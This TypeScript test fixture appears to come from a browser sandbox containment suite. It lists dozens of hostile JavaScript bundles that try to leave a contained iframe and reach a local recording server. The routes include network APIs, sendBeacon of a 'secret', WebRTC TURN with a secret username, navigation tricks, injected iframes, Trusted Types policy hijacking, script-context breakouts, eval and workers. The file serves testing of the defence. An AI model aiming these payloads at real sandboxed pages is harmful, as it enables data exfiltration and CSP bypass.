/**
 * The hostile bundles of the containment suite, one per way out. Each is the `js` (and sometimes `html`) of a
 * Surface; `{{HTTP}}`, `{{TCP0}}`…, `{{UDP}}` are the recording server's ports. A bundle that survives its
 * attempt sends `LineUpSurface.event('done', …)` with what it observed.
 */
export interface Attack {
  /** The class of the issue it belongs to. */
  readonly kind: 'network' | 'webrtc' | 'navigation' | 'frame' | 'worker';
  readonly name: string;
  readonly js: string;
  readonly html?: string;
  readonly css?: string;
  /** The contained Surface is removed for it (a navigation of its own document). */
  readonly tearsDown?: boolean;
  /** Why it is removed, when not `navigated`. */
  readonly removal?: 'flooded';
  /** The same attack gets out of an uncontained frame (used by the controls). */
  readonly control?: boolean;
}

const url = (path = 'x') => `http://127.0.0.1:{{HTTP}}/${path}`;
/** Runs `body`; reports whether it threw. */
const attempt = (body: string) =>
  `var outcome = 'ran'; try { ${body} } catch (error) { outcome = error.name + ': ' + error.message; } LineUpSurface.event('done', { outcome: String(outcome).slice(0, 300) });`;
const later = (body: string, ms = 300) =>
  `setTimeout(function () { LineUpSurface.event('done', { outcome: 'survived' }); }, ${ms}); ${body}`;

export const ATTACKS: readonly Attack[] = [
  // ── Network APIs under connect-src, and subresources ──────────────────────────────────────────────────
  {
    kind: 'network',
    name: 'fetch',
    js: later(`fetch('${url('fetch')}').catch(function () {});`),
    control: true,
  },
  {
    kind: 'network',
    name: 'XMLHttpRequest',
    js: later(`var x = new XMLHttpRequest(); x.open('GET', '${url('xhr')}'); try { x.send(); } catch (e) {}`),
  },
  {
    kind: 'network',
    name: 'sendBeacon',
    js: later(`try { navigator.sendBeacon('${url('beacon')}', 'secret'); } catch (e) {}`),
  },
  {
    kind: 'network',
    name: 'EventSource',
    js: later(`try { new EventSource('${url('sse')}'); } catch (e) {}`),
  },
  {
    kind: 'network',
    name: 'WebSocket',
    js: later(`try { new WebSocket('ws://127.0.0.1:{{HTTP}}/ws'); } catch (e) {}`),
    control: true,
  },
  {
    kind: 'network',
    name: 'WebTransport',
    js: later(`try { new WebTransport('https://127.0.0.1:{{HTTP}}/wt'); } catch (e) {}`),
  },
  { kind: 'network', name: 'fetchLater', js: later(`try { fetchLater('${url('later')}'); } catch (e) {}`) },
  {
    kind: 'network',
    name: 'dynamic import',
    js: later(`try { import('${url('module.js')}').catch(function () {}); } catch (e) {}`),
  },
  {
    kind: 'network',
    name: 'image',
    js: later(
      `new Image().src = '${url('img')}'; document.body.appendChild(document.createElement('img')).src = '${url('img2')}';`,
    ),
    control: true,
  },
  {
    kind: 'network',
    name: 'CSS url, @import and font',
    js: later(
      `document.body.style.background = 'url(${url('bg')})'; var s = document.createElement('style'); s.textContent = '@import url(${url('import.css')}); @font-face { font-family: x; src: url(${url('font')}) } body { font-family: x }'; document.head.appendChild(s);`,
    ),
  },
  {
    kind: 'network',
    name: 'media',
    js: later(
      `var v = document.createElement('video'); v.poster = '${url('poster')}'; v.src = '${url('video')}'; document.body.appendChild(v); new Audio('${url('audio')}');`,
    ),
  },
  {
    kind: 'network',
    name: 'SVG use and image',
    js: later(
      `document.body.innerHTML = '<svg><use href="${url('use')}#a"></use><image href="${url('svg-img')}"></image></svg>';`,
    ),
  },
  {
    kind: 'network',
    name: 'link preconnect',
    js: attempt(
      `var l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://127.0.0.1:{{TCP0}}/'; document.head.appendChild(l);`,
    ),
    control: true,
  },
  {
    kind: 'network',
    name: 'link preconnect in markup',
    js: attempt(`document.body.innerHTML = '<link rel="preconnect" href="http://127.0.0.1:{{TCP0}}/">';`),
  },
  {
    kind: 'network',
    name: 'a ping',
    js: later(
      `var a = document.createElement('a'); a.href = '#'; a.ping = '${url('ping')}'; document.body.appendChild(a); a.click();`,
    ),
  },
  // ── WebRTC, which CSP does not cover ──────────────────────────────────────────────────────────────────
  {
    kind: 'webrtc',
    name: 'TURN over UDP',
    js: attempt(
      `var pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:{{UDP}}?transport=udp', username: 'SECRET', credential: 'x' }] }); pc.createDataChannel('d'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });`,
    ),
    control: true,
  },
  {
    kind: 'webrtc',
    name: 'TURN over TCP',
    js: attempt(
      `var pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:{{TCP1}}?transport=tcp', username: 'SECRET', credential: 'x' }] }); pc.createDataChannel('d'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });`,
    ),
    control: true,
  },
  {
    kind: 'webrtc',
    name: 'STUN',
    js: attempt(
      `var pc = new webkitRTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:{{UDP}}' }] }); pc.createDataChannel('d'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });`,
    ),
  },
  {
    kind: 'webrtc',
    name: 'a pristine RTCPeerConnection from a child about:blank',
    js: attempt(
      `var f = document.body.appendChild(document.createElement('iframe')); new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:{{UDP}}', username: 'SECRET', credential: 'x' }] });`,
    ),
  },
  {
    kind: 'webrtc',
    name: 'a nested srcdoc with its own script',
    js: attempt(
      `document.body.innerHTML = '<iframe srcdoc="<script>new RTCPeerConnection({iceServers:[{urls:\\'turn:127.0.0.1:{{UDP}}\\',username:\\'S\\',credential:\\'x\\'}]}).createOffer()</scr' + 'ipt>"></iframe>';`,
    ),
  },
  {
    kind: 'webrtc',
    name: 'the interface from a prototype chain',
    js: attempt(`var C = Object.getPrototypeOf(RTCSessionDescription).constructor; new C();`),
  },
  // ── Navigation of the Surface's own document ──────────────────────────────────────────────────────────
  {
    kind: 'navigation',
    name: 'location.href',
    js: `location.href = '${url('nav')}';`,
    tearsDown: true,
    control: true,
  },
  {
    kind: 'navigation',
    name: 'location.assign to a raw port',
    js: `location.assign('http://127.0.0.1:{{TCP0}}/');`,
    tearsDown: true,
  },
  {
    kind: 'navigation',
    name: 'location.replace',
    js: `location.replace('${url('replace')}');`,
    tearsDown: true,
  },
  {
    kind: 'navigation',
    name: 'a loop of 30 navigations to different ports',
    js: `for (var i = 0; i < 30; i++) location.href = 'http://127.0.0.1:' + [{{HTTP}}, {{TCP0}}, {{TCP1}}, {{TCP2}}][i % 4] + '/loop' + i;`,
    tearsDown: true,
  },
  {
    kind: 'navigation',
    name: 'navigation as the first statement, before any load',
    js: `location.href = '${url('first')}'; LineUpSurface.event('done', {});`,
    tearsDown: true,
  },
  {
    kind: 'navigation',
    name: 'a flood of window messages to the host, then navigations',
    js: `setTimeout(function () { for (var i = 0; i < 100000; i++) top.postMessage(i, '*'); setTimeout(function () { for (var j = 0; j < 4; j++) location.href = 'http://127.0.0.1:' + [{{HTTP}}, {{TCP0}}, {{TCP1}}, {{TCP2}}][j] + '/after-flood'; }, 20); }, 50);`,
    tearsDown: true,
    removal: 'flooded',
  },
  {
    kind: 'navigation',
    name: 'a 204 loop',
    js: `var n = 0; (function again() { location.href = '${url('204')}?' + n++; if (n < 50) setTimeout(again, 5); })();`,
    tearsDown: true,
  },
  {
    kind: 'navigation',
    name: 'window.open into _self',
    // Refused by the prelude (it throws), so nothing navigates and the Surface stays.
    js: attempt(`window.open('${url('self')}', '_self');`),
    tearsDown: false,
  },
  { kind: 'navigation', name: 'reload', js: `location.reload();`, tearsDown: true },
  { kind: 'navigation', name: 'about:blank', js: `location.href = 'about:blank';`, tearsDown: true },
  {
    kind: 'navigation',
    name: 'a data: URL',
    js: `location.href = 'data:text/html,<script>parent.parent.postMessage(1,"*")</scr' + 'ipt>';`,
    tearsDown: true,
  },
  {
    kind: 'navigation',
    name: 'a blob: URL',
    js: `location.href = URL.createObjectURL(new Blob(['<p>x</p>'], { type: 'text/html' }));`,
    tearsDown: true,
  },
  {
    kind: 'navigation',
    name: 'a javascript: URL',
    js: later(`location.href = 'javascript:parent.parent.postMessage(1, "*")';`),
  },
  {
    kind: 'navigation',
    name: 'meta refresh',
    js: `var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${url('meta')}'; document.head.appendChild(m);`,
    tearsDown: true,
  },
  {
    kind: 'navigation',
    name: 'meta refresh in markup',
    js: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${url('meta2')}">');`,
    tearsDown: true,
  },
  {
    kind: 'navigation',
    name: 'a scripted link click',
    js: later(
      `var a = document.createElement('a'); a.href = '${url('link')}'; document.body.appendChild(a); a.click();`,
    ),
  },
  {
    kind: 'navigation',
    name: 'a relative link',
    js: later(
      `var a = document.createElement('a'); a.href = 'next/page'; document.body.appendChild(a); a.click();`,
    ),
  },
  {
    kind: 'navigation',
    name: 'an SVG link',
    js: later(
      `document.body.innerHTML = '<svg><a href="${url('svg-link')}"><text y="20">x</text></a></svg>'; document.querySelector('svg a').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));`,
    ),
  },
  {
    kind: 'navigation',
    name: 'an image map area',
    js: later(
      `document.body.innerHTML = '<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="m"><area href="${url('area')}" shape="default"></map>'; document.querySelector('area').click();`,
    ),
  },
  {
    kind: 'navigation',
    name: 'a link targeting _top and _parent',
    js: later(
      `['_top', '_parent', '_blank', 'named'].forEach(function (t) { var a = document.createElement('a'); a.href = '${url('target')}'; a.target = t; document.body.appendChild(a); a.click(); try { window.open('${url('open')}', t); } catch (e) {} });`,
    ),
  },
  {
    kind: 'navigation',
    name: 'top and parent location',
    js: attempt(`try { top.location = '${url('top')}'; } catch (e) {} parent.location = '${url('parent')}';`),
  },
  {
    // The host's other frames — spares loaded ahead (a pool keeps several) and the Surface documents inside
    // them — are reachable as `top.frames`; a Surface may navigate none of them. (Its own frame is skipped by
    // what it holds: a view's `parent` is not its frame's window.)
    kind: 'navigation',
    name: "the host's other frames and their Surface documents",
    js: attempt(
      `var tried = 0; for (var i = 0; i < top.frames.length; i++) { var other = top.frames[i]; if (other === parent || other === window || other[0] === window) continue; [other, other[0]].forEach(function (target, depth) { if (!target) return; tried++; try { target.location = '${url('other')}' + i + '-' + depth; } catch (e) {} }); } if (tried === 0) throw new Error('no other frame');`,
    ),
    control: true,
  },
  {
    kind: 'navigation',
    name: 'a form submission',
    js: later(
      `document.body.innerHTML = '<form action="${url('form')}" method="post"><input name="s" value="secret"></form>'; document.forms[0].submit();`,
    ),
  },
  {
    kind: 'navigation',
    name: 'history back, forward and go',
    js: later(`history.back(); history.forward(); history.go(-1);`),
  },
  {
    kind: 'navigation',
    name: 'history.pushState to another origin',
    js: attempt(`history.pushState(null, '', '${url('push')}');`),
  },
  // ── Frames and embedded objects (each would navigate, and preconnect, before CSP) ─────────────────────
  {
    kind: 'frame',
    name: 'createElement iframe',
    js: attempt(
      `var f = document.createElement('iframe'); f.src = '${url('frame')}'; document.body.appendChild(f);`,
    ),
    control: true,
  },
  {
    kind: 'frame',
    name: 'createElementNS iframe with a prefix',
    js: attempt(
      `var f = document.createElementNS('http://www.w3.org/1999/xhtml', 'h:IFRAME'); f.setAttribute('src', '${url('frame')}'); document.body.appendChild(f);`,
    ),
  },
  {
    kind: 'frame',
    name: 'iframe through a Trusted Types policy of its own',
    js: attempt(
      `var own = trustedTypes.createPolicy('mine', { createHTML: function (s) { return s; } }); document.body.innerHTML = own.createHTML('<iframe src="${url('own-policy-frame')}"></iframe>');`,
    ),
  },
  {
    kind: 'network',
    name: "a policy from the browser's createPolicy under the private name, for a preconnect and a script",
    js: attempt(
      `var own = TrustedTypePolicyFactory.prototype.createPolicy.call(trustedTypes, 'lineup-surface', { createHTML: function (s) { return s; }, createScript: function (s) { return s; } }); try { document.head.innerHTML = own.createHTML('<link rel="preconnect" href="http://127.0.0.1:{{TCP0}}/">'); } catch (e) {} var script = document.createElement('script'); script.text = own.createScript("fetch('${url('own-policy-script')}')"); document.body.appendChild(script);`,
    ),
  },
  {
    kind: 'frame',
    name: 'iframe through innerHTML',
    js: attempt(`document.body.innerHTML = '<IFrAmE\\nsrc="${url('frame')}"></iframe>';`),
  },
  {
    kind: 'frame',
    name: 'iframe through insertAdjacentHTML and outerHTML',
    js: attempt(
      `var d = document.body.appendChild(document.createElement('div')); try { d.insertAdjacentHTML('beforeend', '<iframe src="${url('frame')}">'); } catch (e) {} d.outerHTML = '<iframe src="${url('frame2')}"></iframe>';`,
    ),
  },
  {
    kind: 'frame',
    name: 'iframe through DOMParser, adopted',
    js: attempt(
      `var d = new DOMParser().parseFromString('<iframe src="${url('frame')}"></iframe>', 'text/html'); document.body.appendChild(document.adoptNode(d.body.firstChild));`,
    ),
  },
  {
    kind: 'frame',
    name: 'iframe through DOMParser noscript',
    js: attempt(
      `var d = new DOMParser().parseFromString('<noscript><iframe src="${url('frame')}"></iframe></noscript>', 'text/html'); document.body.appendChild(document.importNode(d.body, true));`,
    ),
  },
  {
    kind: 'frame',
    name: 'iframe through XML with a namespace prefix',
    js: attempt(
      `var d = new DOMParser().parseFromString('<r><h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="${url('frame')}"/></r>', 'application/xml'); document.body.appendChild(document.importNode(d.documentElement, true));`,
    ),
  },
  {
    kind: 'frame',
    name: 'document.write',
    js: attempt(`document.write('<iframe src="${url('frame')}"></iframe>');`),
  },
  {
    kind: 'frame',
    name: 'document.open then write',
    js: attempt(
      `document.open(); document.write('<p>wiped</p>'); document.close(); location.href = '${url('after-open')}';`,
    ),
  },
  {
    kind: 'frame',
    name: 'document.write of a trusted empty value',
    js: attempt(`document.write(trustedTypes.emptyHTML);`),
  },
  {
    kind: 'frame',
    name: 'execCommand insertHTML',
    js: attempt(
      `document.body.contentEditable = 'true'; document.body.focus(); document.execCommand('insertHTML', false, '<iframe src="${url('frame')}"></iframe>');`,
    ),
  },
  {
    kind: 'frame',
    name: 'setHTMLUnsafe and parseHTMLUnsafe',
    js: attempt(
      `try { document.body.setHTMLUnsafe('<iframe src="${url('frame')}"></iframe>'); } catch (e) {} document.body.appendChild(Document.parseHTMLUnsafe('<iframe src="${url('frame2')}"></iframe>').body.firstChild);`,
    ),
  },
  {
    kind: 'frame',
    name: 'setHTML (Sanitizer API)',
    js: attempt(
      `document.body.setHTML('<iframe src="${url('frame')}"></iframe><link rel="preconnect" href="http://127.0.0.1:{{TCP0}}/">');`,
    ),
  },
  {
    kind: 'frame',
    name: 'createContextualFragment',
    js: attempt(
      `document.body.appendChild(document.createRange().createContextualFragment('<iframe src="${url('frame')}"></iframe>'));`,
    ),
  },
  {
    kind: 'frame',
    name: 'a customized built-in iframe',
    js: attempt(
      `class F extends HTMLIFrameElement {} customElements.define('x-frame', F, { extends: 'iframe' }); var f = new F(); f.src = '${url('frame')}'; document.body.appendChild(f);`,
    ),
  },
  {
    kind: 'frame',
    name: 'a document made by the DOM implementation',
    js: attempt(
      `var d = document.implementation.createHTMLDocument(''); var f = d.createElement('iframe'); f.src = '${url('frame')}'; document.body.appendChild(f);`,
    ),
  },
  { kind: 'frame', name: 'XSLT', js: attempt(`var p = new XSLTProcessor();`) },
  {
    kind: 'frame',
    name: 'object and embed',
    js: attempt(
      `document.body.innerHTML = '<object data="${url('object')}"></object><embed src="${url('embed')}">';`,
    ),
  },
  {
    kind: 'frame',
    name: 'a frameset',
    js: attempt(`document.body.innerHTML = '<frameset><frame src="${url('frame')}"></frameset>';`),
  },
  {
    kind: 'frame',
    name: 'an inline event handler',
    js: later(`document.body.innerHTML = '<img src="data:," onerror="fetch(\\'${url('handler')}\\')">';`),
  },
  {
    kind: 'frame',
    name: 'an agent script element',
    js: later(
      `var s = document.createElement('script'); s.textContent = "navigator.sendBeacon('${url('script')}')"; document.body.appendChild(s);`,
    ),
  },
  {
    kind: 'frame',
    name: 'eval and Function',
    js: attempt(`try { eval("fetch('${url('eval')}')"); } catch (e) {} Function("fetch('${url('fn')}')")();`),
  },
  {
    // A frame loaded for its Surface carries the bundle in its documents (as data of the prelude's script, in
    // the wrapper's srcdoc attribute): texts that would end that script, the attribute or a style must stay text.
    kind: 'frame',
    name: 'bundle texts that would end the script, attribute or style they travel in',
    html: `<main title="&quot;&gt;&lt;img src=${url('html-img')}&gt;">"&gt; &amp;quot;</main>`,
    css: `</style></head><body><iframe src="${url('css-frame')}"></iframe><img src="${url('css-img')}">`,
    js: attempt(
      `var a = '</script><iframe src="${url('js-frame')}"></iframe><img src="${url('js-img')}"><!--'; var b = '"></iframe><img src="${url('quote-img')}">';`,
    ),
    control: true,
  },
  // ── Workers ───────────────────────────────────────────────────────────────────────────────────────────
  {
    kind: 'worker',
    name: 'a worker from a blob',
    js: attempt(`new Worker(URL.createObjectURL(new Blob(["fetch('${url('worker')}')"])));`),
  },
  { kind: 'worker', name: 'a shared worker', js: attempt(`new SharedWorker('${url('shared')}');`) },
];
